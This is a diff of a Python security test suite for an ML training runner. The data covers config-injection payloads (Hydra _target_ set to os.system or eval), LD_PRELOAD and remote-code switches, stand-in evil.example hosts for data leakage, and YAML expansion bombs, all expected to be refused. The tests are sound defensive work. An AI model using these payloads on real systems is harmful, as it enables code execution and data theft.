@@ -46,15 +46,15 @@ peft.LoraConfig.save_pretrained peft.LoraConfig.push_to_hub peft.utils.save_and_
 setuptools._distutils.spawn.spawn pip.main ensurepip.bootstrap site.addsitedir sysconfig.os.system
 runner.config.build.locate runner.config.build.build runner.config.build.importlib.import_module
 runner.io.files.write_text runner.io.files.os.remove runner.io.files.remove runner.io.files.shutil.rmtree
-runner.run.open_run runner.run.subprocess.run runner.launch.worker.work
+runner.run.open_run runner.run.manifest.subprocess.run runner.launch.worker.work
 runner.launch.local.os.kill runner.__main__.main runner.command.train.train
 runner.command.import.main runner.launch.pool.os.fork runner.model.load._load_whole runner.model.load.importlib.util
 runner.model.load.torch.load runner.model.adapter.write_adapter runner.dataset.head.write_head
-runner.dataset.load.json.loads runner.dataset.load.os.system runner.reward.remote.build_opener
-runner.tracker.variable.set_variables runner.tracker.variable.os.environ.update runner.training.callback.Record
-runner.training.callback.Record.on_log runner.training.callback.shutil.rmtree
-runner.training.callback.os.system runner.training.callback.write_text
-runner.ppo.PPOTrainer.push_to_hub runner.ppo.PPOTrainer.save_model runner.ppo.algorithm.json.loads
+runner.dataset.converted_rows.json.loads runner.dataset.load.os.system runner.reward.remote.build_opener
+runner.tracker.variable.set_variables runner.tracker.variable.os.environ.update runner.training.callback.record.Record
+runner.training.callback.record.Record.on_log runner.training.callback.record.shutil.rmtree
+runner.training.callback.record.os.system runner.training.callback.record.replace_rows
+runner.ppo.PPOTrainer.push_to_hub runner.ppo.PPOTrainer.save_model runner.ppo.trainer.json.loads
 runner.model.load.load_model.__globals__ runner.model.load.__builtins__.eval runner.model.load.__dict__
 runner.reward.rule.__loader__.load_module trl.DPOTrainer.__init__.__globals__ trl.__spec__.loader.exec_module
 peft.LoraConfig.__class__ torch.optim.AdamW.__subclasses__ runner.x.__globals__ ().__class__ os os. .os os..system
@@ -70,33 +70,59 @@ reward.x.inner callback.x.generate
 
 # --- Words that somebody could be told to type, or a stage could list -----------------------------------------------
 
-# Each must be refused with exit code 2 and a word of what it is about. {mark} is a file that running code would make.
+# Each must be refused with exit code 2 and a word of what it is about. {mark} is a file that
+# running code would make.
 WORDS = {
     "by plus": ["+callback.x._target_=os.system", "+callback.x.command=touch {mark}"],
     "by two pluses": ["++reward.x._target_=os.system", "++reward.x.command=touch {mark}"],
     "a whole node": ["callback={x: {_target_: os.system, command: 'touch {mark}'}}"],
-    "in a list": ["trainer.args.lr_scheduler_kwargs={a: [{b: {_target_: os.system, command: 'touch {mark}'}}]}"],
-    "by interpolation": ["callback.x._target_=${name}", "name=os.system", "callback.x.command=touch {mark}"],
-    "pieced together": ["callback.x._target_=os.${name}", "name=system", "callback.x.command=touch {mark}"],
-    "by oc.select": ["callback.x._target_='${oc.select:nothing,os.system}'", "callback.x.command=touch {mark}"],
+    "in a list": [
+        "trainer.args.lr_scheduler_kwargs={a: [{b: {_target_: os.system, command: 'touch {mark}'}}]}"
+    ],
+    "by interpolation": [
+        "callback.x._target_=${name}",
+        "name=os.system",
+        "callback.x.command=touch {mark}",
+    ],
+    "pieced together": [
+        "callback.x._target_=os.${name}",
+        "name=system",
+        "callback.x.command=touch {mark}",
+    ],
+    "by oc.select": [
+        "callback.x._target_='${oc.select:nothing,os.system}'",
+        "callback.x.command=touch {mark}",
+    ],
     "a partial of it": [
         "callback.x._target_=os.system",
         "callback.x._partial_=true",
         "callback.x.command=touch {mark}",
     ],
     "with _args_": ["callback.x._target_=os.system", "callback.x._args_=['touch {mark}']"],
-    "_args_ alone": ["callback.x._target_=runner.training.callback.Samples", "callback.x._args_=[1]"],
-    "with _convert_": ["callback.x._target_=runner.training.callback.Samples", "callback.x._convert_=all"],
-    "with _recursive_": ["callback.x._target_=runner.training.callback.Samples", "callback.x._recursive_=false"],
+    "_args_ alone": [
+        "callback.x._target_=runner.training.callback.Samples",
+        "callback.x._args_=[1]",
+    ],
+    "with _convert_": [
+        "callback.x._target_=runner.training.callback.Samples",
+        "callback.x._convert_=all",
+    ],
+    "with _recursive_": [
+        "callback.x._target_=runner.training.callback.Samples",
+        "callback.x._recursive_=false",
+    ],
     "a file is written": [
-        "callback.x._target_=runner.training.callback.Record",
+        "callback.x._target_=runner.training.callback.record.Record",
         "callback.x.path={mark}",
         "callback.x.set_status=null",
     ],
     "hydra.run.dir": ["hydra.run.dir=../.."],
     "hydra.sweep.dir": ["-m", "seed=0,1", "hydra.sweep.dir=/tmp/elsewhere"],
     "hydra.searchpath": ["hydra.searchpath=[pkg://evil]"],
-    "hydra.callbacks": ["+hydra.callbacks.x._target_=os.system", "+hydra.callbacks.x.command=touch {mark}"],
+    "hydra.callbacks": [
+        "+hydra.callbacks.x._target_=os.system",
+        "+hydra.callbacks.x.command=touch {mark}",
+    ],
     "hydra.launcher": ["-m", "seed=0,1", "hydra.launcher._target_=os.system"],
     "hydra.sweeper": ["-m", "seed=0,1", "hydra/sweeper=basic", "hydra.sweeper._target_=os.system"],
     "hydra.job_logging": ["hydra.job_logging.root={handlers: [x]}"],
@@ -129,25 +155,41 @@ WORDS = {
 # --- Files of a config folder of somebody else's ---------------------------------------------------------------------
 
 GLOBAL = "# @package _global_\n"
-# name -> (files by path, words). Each is refused with exit code 2; the words come after --config-dir.
+# name -> (files by path, words). Each is refused with exit code 2; the words come after
+# --config-dir.
 FILES = {
-    "remote code": ({"experiment/x.yaml": GLOBAL + "model: {trust_remote_code: true}\n"}, ["experiment=x"]),
+    "remote code": (
+        {"experiment/x.yaml": GLOBAL + "model: {trust_remote_code: true}\n"},
+        ["experiment=x"],
+    ),
     "remote code of a tokenizer": (
         {"experiment/x.yaml": GLOBAL + "model: {tokenizer: {trust_remote_code: true}}\n"},
         ["experiment=x"],
     ),
     "remote code below": (
-        {"experiment/x.yaml": GLOBAL + "trainer: {args: {model_init_kwargs: {trust_remote_code: true}}}\n"},
+        {
+            "experiment/x.yaml": GLOBAL
+            + "trainer: {args: {model_init_kwargs: {trust_remote_code: true}}}\n"
+        },
         ["experiment=x"],
     ),
-    "pickled weights": ({"experiment/x.yaml": GLOBAL + "model: {safetensors_only: false}\n"}, ["experiment=x"]),
-    "a push": ({"experiment/x.yaml": GLOBAL + "trainer: {args: {push_to_hub: true}}\n"}, ["experiment=x"]),
+    "pickled weights": (
+        {"experiment/x.yaml": GLOBAL + "model: {safetensors_only: false}\n"},
+        ["experiment=x"],
+    ),
+    "a push": (
+        {"experiment/x.yaml": GLOBAL + "trainer: {args: {push_to_hub: true}}\n"},
+        ["experiment=x"],
+    ),
     "completions to the hub": (
         {"experiment/x.yaml": GLOBAL + "trainer: {args: {log_completions_hub_repo: evil/x}}\n"},
         ["trainer=grpo", "experiment=x"],
     ),
     "prompts to a server": (
-        {"experiment/x.yaml": GLOBAL + "trainer: {args: {vllm_server_base_url: 'http://evil.example'}}\n"},
+        {
+            "experiment/x.yaml": GLOBAL
+            + "trainer: {args: {vllm_server_base_url: 'http://evil.example'}}\n"
+        },
         ["trainer=grpo", "experiment=x"],
     ),
     "prompts to a host": (
@@ -155,7 +197,9 @@ FILES = {
         ["trainer=grpo", "experiment=x"],
     ),
     "rewards of a server": (
-        {"reward/x.yaml": "x: {_target_: runner.reward.remote.Remote, url: 'https://evil.example'}\n"},
+        {
+            "reward/x.yaml": "x: {_target_: runner.reward.remote.Remote, url: 'https://evil.example'}\n"
+        },
         ["trainer=grpo", "reward=x"],
     ),
     "a variable to a server": (
@@ -181,15 +225,24 @@ FILES = {
         ["experiment=x"],
     ),
     "figures through a proxy": (
-        {"experiment/x.yaml": GLOBAL + "tracker: {environment: {WANDB_HTTP_PROXY: 'http://e.example'}}\n"},
+        {
+            "experiment/x.yaml": GLOBAL
+            + "tracker: {environment: {WANDB_HTTP_PROXY: 'http://e.example'}}\n"
+        },
         ["experiment=x", "tracker.report_to=none"],
     ),
     "prompts to a host behind a scheme": (
-        {"experiment/x.yaml": GLOBAL + "trainer: {args: {vllm_server_host: 'e.example://127.0.0.1'}}\n"},
+        {
+            "experiment/x.yaml": GLOBAL
+            + "trainer: {args: {vllm_server_host: 'e.example://127.0.0.1'}}\n"
+        },
         ["experiment=x", "trainer=grpo"],
     ),
     "git runs a program": (
-        {"experiment/x.yaml": GLOBAL + "tracker: {environment: {GIT_EXTERNAL_DIFF: 'touch {mark}'}}\n"},
+        {
+            "experiment/x.yaml": GLOBAL
+            + "tracker: {environment: {GIT_EXTERNAL_DIFF: 'touch {mark}'}}\n"
+        },
         ["experiment=x"],
     ),
     "a library is preloaded": (
@@ -201,7 +254,10 @@ FILES = {
         ["experiment=x"],
     ),
     "another hub": (
-        {"experiment/x.yaml": GLOBAL + "tracker: {environment: {HF_ENDPOINT: 'https://evil.example'}}\n"},
+        {
+            "experiment/x.yaml": GLOBAL
+            + "tracker: {environment: {HF_ENDPOINT: 'https://evil.example'}}\n"
+        },
         ["experiment=x"],
     ),
     "a tracker writes elsewhere": (
@@ -222,13 +278,22 @@ FILES = {
         },
         ["callback=x"],
     ),
-    "a target in an option": ({"metric/x.yaml": "x: {_target_: os.system, command: 'touch {mark}'}\n"}, ["metric=x"]),
+    "a target in an option": (
+        {"metric/x.yaml": "x: {_target_: os.system, command: 'touch {mark}'}\n"},
+        ["metric=x"],
+    ),
     "a shadow of ours": (
         {"model/tiny.yaml": "_target_: os.system\ncommand: 'touch {mark}'\n"},
         ["model=tiny"],
     ),
-    "a loss": ({"loss/x.yaml": '_target_: builtins.eval\nsource: \'open("{mark}", "w")\'\n'}, ["loss=x"]),
-    "an optimizer": ({"optimizer/x.yaml": "_target_: os.system\ncommand: 'touch {mark}'\n"}, ["optimizer=x"]),
+    "a loss": (
+        {"loss/x.yaml": '_target_: builtins.eval\nsource: \'open("{mark}", "w")\'\n'},
+        ["loss=x"],
+    ),
+    "an optimizer": (
+        {"optimizer/x.yaml": "_target_: os.system\ncommand: 'touch {mark}'\n"},
+        ["optimizer=x"],
+    ),
     "a schedule": (
         {
             "optimizer/x.yaml": "_target_: torch.optim.AdamW\n"
@@ -236,14 +301,26 @@ FILES = {
         },
         ["optimizer=x"],
     ),
-    "a collator": ({"collator/x.yaml": "_target_: os.system\ncommand: 'touch {mark}'\n"}, ["collator=x"]),
-    "a launcher": ({"launcher/x.yaml": "_target_: os.system\ncommand: 'touch {mark}'\n"}, ["launcher=x"]),
+    "a collator": (
+        {"collator/x.yaml": "_target_: os.system\ncommand: 'touch {mark}'\n"},
+        ["collator=x"],
+    ),
+    "a launcher": (
+        {"launcher/x.yaml": "_target_: os.system\ncommand: 'touch {mark}'\n"},
+        ["launcher=x"],
+    ),
     "a map of rows": (
-        {"experiment/x.yaml": GLOBAL + "dataset: {map: {_target_: os.system, command: 'touch {mark}'}}\n"},
+        {
+            "experiment/x.yaml": GLOBAL
+            + "dataset: {map: {_target_: os.system, command: 'touch {mark}'}}\n"
+        },
         ["experiment=x"],
     ),
     "a stage": (
-        {"experiment/x.yaml": GLOBAL + "stages: {a: ['callback.x._target_=os.system', 'allow=[os]']}\n"},
+        {
+            "experiment/x.yaml": GLOBAL
+            + "stages: {a: ['callback.x._target_=os.system', 'allow=[os]']}\n"
+        },
         ["experiment=x"],
     ),
     "a stage that trusts": (
@@ -255,12 +332,16 @@ FILES = {
         [],
     ),
     "hydra's callbacks": (
-        {"experiment/x.yaml": GLOBAL + "hydra: {callbacks: {x: {_target_: os.system, command: 'touch {mark}'}}}\n"},
+        {
+            "experiment/x.yaml": GLOBAL
+            + "hydra: {callbacks: {x: {_target_: os.system, command: 'touch {mark}'}}}\n"
+        },
         ["experiment=x", "--cfg", "job"],
     ),
     "hydra's loggers": (
         {
-            "experiment/x.yaml": GLOBAL + "hydra: {job_logging: {version: 1, handlers: {x: {class: logging.FileHandler,"
+            "experiment/x.yaml": GLOBAL
+            + "hydra: {job_logging: {version: 1, handlers: {x: {class: logging.FileHandler,"
             " filename: '{mark}'}}, root: {handlers: [x]}}}\n"
         },
         ["experiment=x", "--cfg", "job"],
@@ -273,7 +354,10 @@ FILES = {
         ["experiment=x", "--cfg", "job"],
     ),
     "hydra's launcher": (
-        {"sweep/x.yaml": GLOBAL + "hydra: {launcher: {_target_: os.system}, sweeper: {params: {seed: '0,1'}}}\n"},
+        {
+            "sweep/x.yaml": GLOBAL
+            + "hydra: {launcher: {_target_: os.system}, sweeper: {params: {seed: '0,1'}}}\n"
+        },
         ["sweep=x"],
     ),
     "hydra's launcher as a default": (
@@ -284,7 +368,10 @@ FILES = {
         ["sweep=x"],
     ),
     "hydra's sweeper": (
-        {"sweep/x.yaml": GLOBAL + "hydra: {sweeper: {_target_: os.system, params: {seed: '0,1'}}}\n"},
+        {
+            "sweep/x.yaml": GLOBAL
+            + "hydra: {sweeper: {_target_: os.system, params: {seed: '0,1'}}}\n"
+        },
         ["sweep=x"],
     ),
     "a header of hydra's": (
@@ -300,11 +387,15 @@ FILES = {
         ["experiment=x"],
     ),
     "a folder outside": (
-        {"callback/x.yaml": "samples: {_target_: runner.training.callback.Samples, folder: /tmp/elsewhere}\n"},
+        {
+            "callback/x.yaml": "samples: {_target_: runner.training.callback.Samples, folder: /tmp/elsewhere}\n"
+        },
         ["callback=x", "trainer=grpo", "reward=sorted_digits"],
     ),
     "a folder that leads up": (
-        {"callback/x.yaml": "samples: {_target_: runner.training.callback.Samples, folder: a/../../..}\n"},
+        {
+            "callback/x.yaml": "samples: {_target_: runner.training.callback.Samples, folder: a/../../..}\n"
+        },
         ["callback=x", "trainer=grpo", "reward=sorted_digits"],
     ),
     "a cache outside": (
@@ -340,15 +431,22 @@ SLURM, RAY = (f"defaults: [override /launcher: {name}]\nlauncher: " for name in 
 # Code of others in any shape and depth, under any name of ours or the library's.
 FILES |= {
     "a kernel in a mapping": _loading("{attn_implementation: {'': evil/kernel}}"),
-    "a kernel deep in a mapping": _loading("{attn_implementation: {text_config: {'': evil/kernel}}}"),
+    "a kernel deep in a mapping": _loading(
+        "{attn_implementation: {text_config: {'': evil/kernel}}}"
+    ),
     "a kernel in a list": _loading("{attn_implementation: [evil/kernel]}"),
-    "a kernel under an inner name": _loading("{config: {_attn_implementation_internal: evil/kernel}}"),
+    "a kernel under an inner name": _loading(
+        "{config: {_attn_implementation_internal: evil/kernel}}"
+    ),
     "a kernel of experts": _loading("{experts_implementation: {'': 'evil/kernel@v1:Experts'}}"),
     "a kernel of our key": _experiment("model: {attention: 'paged|evil/kernel'}"),
     "a kernel of a teacher": _experiment(
-        "trainer: {teacher_model: {path: runner://model/tiny, attention: evil/kernel}}", "trainer=gkd"
+        "trainer: {teacher_model: {path: runner://model/tiny, attention: evil/kernel}}",
+        "trainer=gkd",
     ),
-    "a kernel of a new model": _experiment("model: {attn_implementation: evil/kernel}", "model=new"),
+    "a kernel of a new model": _experiment(
+        "model: {attn_implementation: evil/kernel}", "model=new"
+    ),
     "a kernel of the batches that answer": _experiment(
         "trainer: {args: {transformers_continuous_batching_config: {attn_implementation: evil/kernel}}}",
         "trainer=grpo",
@@ -387,7 +485,9 @@ FILES |= {
     "pickles by weights_only": _loading("{weights_only: false}"),
     "pickles by a number": _loading("{use_safetensors: 0}"),
     "a module of peft's": _experiment("peft: {megatron_core: evil.core}", "peft=lora"),
-    "a mapping to a module": _experiment("peft: {auto_mapping: {parent_library: evil}}", "peft=lora"),
+    "a mapping to a module": _experiment(
+        "peft: {auto_mapping: {parent_library: evil}}", "peft=lora"
+    ),
     "adapters beside the checks": _experiment(
         "peft: {_target_: peft.XLoraConfig, hidden_size: 128, adapters: {a: evil/adapter}}"
     ),
@@ -395,8 +495,13 @@ FILES |= {
         "peft: {_target_: peft.MultitaskPromptTuningConfig, num_virtual_tokens: 3, "
         "prompt_tuning_init_state_dict_path: x.bin}"
     ),
-    "a module of deepspeed": _experiment("trainer: {args: {deepspeed: {compile: {backend: evil.run}}}}"),
-    "an option with trust": ({"model/mine.yaml": "defaults: [tiny]\ntrust_remote_code: true\n"}, ["model=mine"]),
+    "a module of deepspeed": _experiment(
+        "trainer: {args: {deepspeed: {compile: {backend: evil.run}}}}"
+    ),
+    "an option with trust": (
+        {"model/mine.yaml": "defaults: [tiny]\ntrust_remote_code: true\n"},
+        ["model=mine"],
+    ),
     "a sweep that trusts": _sweep("params: {seed: '0,1', model.trust_remote_code: 'true'}"),
     "a sweep that allows": _sweep("params: {seed: '0,1', allow: '[evil]'}"),
     "a sweeper's function": _sweep("custom_search_space: os.system, params: {seed: '0,1'}"),
@@ -404,11 +509,15 @@ FILES |= {
 }
 # Whatever leaves the machine, or writes elsewhere.
 FILES |= {
-    "a callback that sends": _experiment("callback: {x: {_target_: transformers.integrations.WandbCallback}}"),
+    "a callback that sends": _experiment(
+        "callback: {x: {_target_: transformers.integrations.WandbCallback}}"
+    ),
     "a callback by its home": _experiment(
         "callback: {x: {_target_: transformers.integrations.integration_utils.CometCallback, _partial_: true}}"
     ),
-    "a callback of TRL's": _experiment("callback: {x: {_target_: trl.WeaveCallback}}", "trainer=grpo"),
+    "a callback of TRL's": _experiment(
+        "callback: {x: {_target_: trl.WeaveCallback}}", "trainer=grpo"
+    ),
     "a callback of the menu": _experiment("defaults: [override /callback: weave]", "trainer=grpo"),
     "a callback in an option": (
         {"callback/mine.yaml": "x: {_target_: transformers.integrations.MLflowCallback}\n"},
@@ -422,8 +531,12 @@ FILES |= {
     "a callback that pushes": _experiment(
         "callback: {x: {_target_: trl.experimental.merge_model_callback.MergeModelCallback, push_to_hub: true}}"
     ),
-    "a repository to push to": _experiment("trainer: {args: {hub_model_id: evil/x}}", "trainer.args.push_to_hub=true"),
-    "a public repository": _experiment("trainer: {args: {hub_private_repo: false}}", "trainer.args.push_to_hub=true"),
+    "a repository to push to": _experiment(
+        "trainer: {args: {hub_model_id: evil/x}}", "trainer.args.push_to_hub=true"
+    ),
+    "a public repository": _experiment(
+        "trainer: {args: {hub_private_repo: false}}", "trainer.args.push_to_hub=true"
+    ),
     "a space for figures": _experiment("trainer: {args: {trackio_static_space_id: evil/x}}"),
     "another server beside a tracker that was typed": _experiment(
         "tracker: {environment: {WANDB_BASE_URL: 'https://evil.example'}}", "tracker=wandb"
@@ -439,7 +552,9 @@ FILES |= {
         ["tracker=wandb"],
     ),
     "a tracker that asks where we are": _experiment("tracker: {report_to: codecarbon}"),
-    "a tracker of a sweep": _sweep("params: {tracker: wandb, tracker.environment.WANDB_MODE: online, seed: '0,1'}"),
+    "a tracker of a sweep": _sweep(
+        "params: {tracker: wandb, tracker.environment.WANDB_MODE: online, seed: '0,1'}"
+    ),
     "a tracker of deepspeed": _experiment("trainer: {args: {deepspeed: {wandb: {enabled: true}}}}"),
     "a tracker in a file of deepspeed": (
         {
@@ -451,8 +566,12 @@ FILES |= {
     "a folder of deepspeed": _experiment(
         "trainer: {args: {deepspeed: {tensorboard: {enabled: true, output_path: /tmp/elsewhere}}}}"
     ),
-    "rows of a server": _experiment("dataset: {path: 'https://evil.example/${oc.env:HOME}', form: text}"),
-    "rows of several servers": _experiment("dataset: {path: ['http://evil.example/a.jsonl'], form: text}"),
+    "rows of a server": _experiment(
+        "dataset: {path: 'https://evil.example/${oc.env:HOME}', form: text}"
+    ),
+    "rows of several servers": _experiment(
+        "dataset: {path: ['http://evil.example/a.jsonl'], form: text}"
+    ),
     "a cache of an adapter": _experiment("peft: {corda_config: {cache_file: /etc/x}}", "peft=lora"),
     "runs outside": _experiment("output_root: /tmp/elsewhere", "--dry-run"),
     "runs above": _experiment("output_root: ../x", "--dry-run"),
@@ -460,9 +579,15 @@ FILES |= {
 }
 # What a launcher runs, or where it leads.
 FILES |= {
-    "ray: a program": _experiment(f"{RAY}{{runtime_env: {{py_executable: \"sh -c 'touch {{mark}}'\"}}}}", "--dry-run"),
-    "ray: packages": _experiment(f"{RAY}{{runtime_env: {{pip: ['git+https://evil/x']}}}}", "--dry-run"),
-    "ray: a variable": _experiment(f"{RAY}{{runtime_env: {{env_vars: {{LD_PRELOAD: ./x.so}}}}}}", "--dry-run"),
+    "ray: a program": _experiment(
+        f"{RAY}{{runtime_env: {{py_executable: \"sh -c 'touch {{mark}}'\"}}}}", "--dry-run"
+    ),
+    "ray: packages": _experiment(
+        f"{RAY}{{runtime_env: {{pip: ['git+https://evil/x']}}}}", "--dry-run"
+    ),
+    "ray: a variable": _experiment(
+        f"{RAY}{{runtime_env: {{env_vars: {{LD_PRELOAD: ./x.so}}}}}}", "--dry-run"
+    ),
     "ray: another cluster": _experiment(f"{RAY}{{address: 'evil.example:6379'}}", "--dry-run"),
     "ray: packages of a launcher that was typed": _experiment(
         "launcher: {runtime_env: {pip: [evil]}}", "launcher=ray", "--dry-run"
@@ -471,11 +596,17 @@ FILES |= {
         "launcher: {runtime_env: {env_vars: {LD_PRELOAD: x}}}",
         *("launcher=ray", "launcher.runtime_env={env_vars: {A: b}}", "--dry-run"),
     ),
-    "slurm: a variable": _experiment(f"{SLURM}{{parameters: {{export: 'ALL,LD_PRELOAD=./evil.so'}}}}", "--dry-run"),
+    "slurm: a variable": _experiment(
+        f"{SLURM}{{parameters: {{export: 'ALL,LD_PRELOAD=./evil.so'}}}}", "--dry-run"
+    ),
     "slurm: a container": _experiment(f"{SLURM}{{parameters: {{container: ./evil}}}}", "--dry-run"),
     "slurm: a prolog": _experiment(f"{SLURM}{{parameters: {{task-prolog: ./evil}}}}", "--dry-run"),
-    "slurm: a mail": _experiment(f"{SLURM}{{parameters: {{mail_user: a@evil.example}}}}", "--dry-run"),
-    "slurm: another Python": _experiment("launcher: {python: ./evil}", "launcher=slurm", "--dry-run"),
+    "slurm: a mail": _experiment(
+        f"{SLURM}{{parameters: {{mail_user: a@evil.example}}}}", "--dry-run"
+    ),
+    "slurm: another Python": _experiment(
+        "launcher: {python: ./evil}", "launcher=slurm", "--dry-run"
+    ),
     "slurm: beside what was typed": _experiment(
         "launcher: {parameters: {export: x}}",
         *("launcher=slurm", "launcher.parameters={exclusive: true}", "--dry-run"),
@@ -484,7 +615,9 @@ FILES |= {
         {"launcher/slurm.yaml": "_target_: runner.launch.slurm.Slurm\nsetup: [touch {mark}]\n"},
         ["launcher=slurm", "--dry-run"],
     ),
-    "slurm: lines of a sweep": _sweep("params: {launcher: slurm, launcher.setup: '[touch {mark}]', seed: '0,1'}"),
+    "slurm: lines of a sweep": _sweep(
+        "params: {launcher: slurm, launcher.setup: '[touch {mark}]', seed: '0,1'}"
+    ),
     "slurm: lines of a stage": _experiment(
         "name: x\nstages: {a: ['launcher=slurm', 'launcher.setup=[touch {mark}]']}", "--dry-run"
     ),
@@ -506,29 +639,40 @@ def _letters(count: int) -> list[str]:
 def _chain(first: str, link: str) -> str:
     """Ten keys, each of which is ten times the one before."""
     pairs = zip(_letters(11), _letters(12)[1:], strict=False)
-    return f"a: {first}\n" + "".join(f"{later}: {link.replace('@', earlier)}\n" for earlier, later in pairs)
+    return f"a: {first}\n" + "".join(
+        f"{later}: {link.replace('@', earlier)}\n" for earlier, later in pairs
+    )
 
 
 BOMBS = {
     "aliases": "a: &a [x, x, x, x, x, x, x, x, x, x]\n"
     + "".join(
-        f"{b}: &{b} [{', '.join([f'*{a}'] * 10)}]\n" for a, b in zip(_letters(10), _letters(11)[1:], strict=False)
+        f"{b}: &{b} [{', '.join([f'*{a}'] * 10)}]\n"
+        for a, b in zip(_letters(10), _letters(11)[1:], strict=False)
     ),
     "aliases of mappings": "a: &a {x: 1, y: 2}\n"
     + "".join(
-        f"{b}: &{b} {{p: *{a}, q: *{a}, r: *{a}}}\n" for a, b in zip(_letters(25), _letters(26)[1:], strict=False)
+        f"{b}: &{b} {{p: *{a}, q: *{a}, r: *{a}}}\n"
+        for a, b in zip(_letters(25), _letters(26)[1:], strict=False)
     ),
     "YAML in a text": "t: |\n  a: &a [x, x, x, x, x, x, x, x, x, x]\n"
     + "".join(
-        f"  {b}: &{b} [{', '.join([f'*{a}'] * 10)}]\n" for a, b in zip(_letters(8), _letters(9)[1:], strict=False)
+        f"  {b}: &{b} [{', '.join([f'*{a}'] * 10)}]\n"
+        for a, b in zip(_letters(8), _letters(9)[1:], strict=False)
     )
     + "u: ${oc.create:${t}}\n",
     "an alias of itself": "a: &a [*a]\n",
     "merged keys": "a: &a {x: 1}\n" + "b: {<<: [" + ", ".join(["*a"] * 150_000) + "]}\n",
     "texts of texts": _chain("xxxxxxxxxx", '"' + "${@}" * 10 + '"'),
-    "lists of lists": _chain("[x, x, x, x, x, x, x, x, x, x]", "[" + ", ".join(["'${@}'"] * 10) + "]"),
-    "lists by a resolver": _chain("[x, x, x, x, x, x, x, x, x, x]", "[" + ", ".join(["'${oc.select:@,1}'"] * 10) + "]"),
-    "values of mappings": _chain("{p: 1}", "{" + ", ".join(f"p{n}: '${{@}}'" for n in range(10)) + "}"),
+    "lists of lists": _chain(
+        "[x, x, x, x, x, x, x, x, x, x]", "[" + ", ".join(["'${@}'"] * 10) + "]"
+    ),
+    "lists by a resolver": _chain(
+        "[x, x, x, x, x, x, x, x, x, x]", "[" + ", ".join(["'${oc.select:@,1}'"] * 10) + "]"
+    ),
+    "values of mappings": _chain(
+        "{p: 1}", "{" + ", ".join(f"p{n}: '${{@}}'" for n in range(10)) + "}"
+    ),
     "a long text often": "a: " + "x" * 500_000 + "\nb: '" + "${a}" * 5_000 + "'\n",
     "a circle": "a: ${b}\nb: ${a}\n",
     "a chain": "".join(f"k{n}: ${{k{n + 1}}}\n" for n in range(5_000)) + "k5000: 1\n",
@@ -544,15 +688,30 @@ BOMBS = {
 }
 # Those that only a configuration that is composed would follow.
 REFERENCES = {
-    *("texts of texts", "lists of lists", "lists by a resolver", "values of mappings", "a long text often"),
+    *(
+        "texts of texts",
+        "lists of lists",
+        "lists by a resolver",
+        "values of mappings",
+        "a long text often",
+    ),
     *("a circle", "a chain", "YAML in a text"),
 }
 # Where each is put: words, with the file that is written.
 DOORS = {
-    "--config-dir": ("menu/experiment/x.yaml", ["--config-dir", "menu", "experiment=x", "--dry-run"]),
+    "--config-dir": (
+        "menu/experiment/x.yaml",
+        ["--config-dir", "menu", "experiment=x", "--dry-run"],
+    ),
     "a primary config": ("menu/config.yaml", ["--config-dir", "menu", "--dry-run"]),
-    "a run folder": ("outputs/x/run-0123456789/config.yaml", ["preview", "outputs/x/run-0123456789"]),
-    "evaluate": ("outputs/x/run-0123456789/config.yaml", ["evaluate", "outputs/x/run-0123456789", "dataset=toy"]),
+    "a run folder": (
+        "outputs/x/run-0123456789/config.yaml",
+        ["preview", "outputs/x/run-0123456789"],
+    ),
+    "evaluate": (
+        "outputs/x/run-0123456789/config.yaml",
+        ["evaluate", "outputs/x/run-0123456789", "dataset=toy"],
+    ),
     "report": ("outputs/x/run-0123456789/config.yaml", ["report", "outputs/x/run-0123456789"]),
     "import": ("file.yaml", ["import", "file.yaml", "dialect=trl"]),
 }
